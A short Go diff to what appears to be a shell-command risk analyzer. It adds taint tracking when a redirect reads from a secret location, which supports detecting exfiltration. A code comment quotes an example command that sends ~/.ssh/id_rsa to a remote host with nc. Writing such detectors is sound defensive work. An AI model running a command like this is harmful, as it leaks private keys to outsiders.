@@ -57,6 +57,9 @@ func (w *walker) redirects(rs []*syntax.Redirect, in stream) (stream, []raise, [
 				if isNetDev(l.path) {
 					add(Confirm, netWhy)
 				}
+				if t, _ := exfilLoc(l); t != 0 {
+					st.taint |= t // nc host 1 < ~/.ssh/id_rsa sends it
+				}
 				stdin = st
 				if why := secretLoc(l); why != "" {
 					add(Confirm, "reads "+display(target.s)+" ("+why+")")
